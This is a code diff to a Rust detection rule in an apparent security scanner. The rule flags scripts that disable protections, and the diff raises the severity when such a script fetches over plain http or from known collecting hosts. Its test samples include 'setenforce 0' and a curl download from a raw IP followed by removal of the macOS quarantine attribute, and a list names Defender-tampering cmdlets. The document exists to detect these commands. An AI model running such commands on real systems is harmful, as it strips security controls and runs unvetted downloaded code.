@@ -2,6 +2,7 @@
 
 use crate::finding::{Confidence, Severity};
 use crate::scan::code::Unit;
+use crate::scan::collecting_host;
 use crate::scan::command;
 use crate::scan::operation::Act;
 use crate::scan::rule::{Check, Reporter, Rule, Sample};
@@ -23,7 +24,7 @@ pub static RULE: Rule = Rule {
         Sample::File("a.sh", "setenforce 0\n"),
         Sample::File(
             "a.sh",
-            "curl -o tool https://get.example.com/tool\nxattr -d com.apple.quarantine tool\n",
+            "curl -o tool http://198.51.100.7/tool\nxattr -d com.apple.quarantine tool\n",
         ),
         Sample::File(
             "scripts/a.py",
@@ -52,8 +53,14 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
         .operations
         .iter()
         .any(|operation| matches!(operation.act, Act::Contact { local: false, .. }));
+    let strange = unit.lowered.operations.iter().any(|operation| {
+        matches!(&operation.act, Act::Contact { address, local: false, .. }
+        if address.text.as_deref().is_some_and(|address| {
+            address.starts_with("http://") || collecting_host::of_address(address).is_some()
+        }))
+    });
     for command in command::all(unit) {
-        let Some(severity) = weight(&command, fetches) else {
+        let Some(severity) = weight(&command, fetches, strange) else {
             continue;
         };
         let raised = reporter.raise(command.span);
@@ -64,7 +71,7 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
     }
 }
 
-fn weight(command: &command::Command<'_>, fetches: bool) -> Option<Severity> {
+fn weight(command: &command::Command<'_>, fetches: bool, strange: bool) -> Option<Severity> {
     const KNOWN: &[&str] = &[
         "set-mppreference",
         "add-mppreference",
@@ -133,7 +140,7 @@ fn weight(command: &command::Command<'_>, fetches: bool) -> Option<Severity> {
         }
         (true, _) => Some(Severity::Error),
         // Makers of unsigned tools tell people to do this.
-        (false, true) if fetches => Some(Severity::Error),
+        (false, true) if strange => Some(Severity::Error),
         (false, true) => Some(Severity::Warning),
         (false, false) => None,
     }
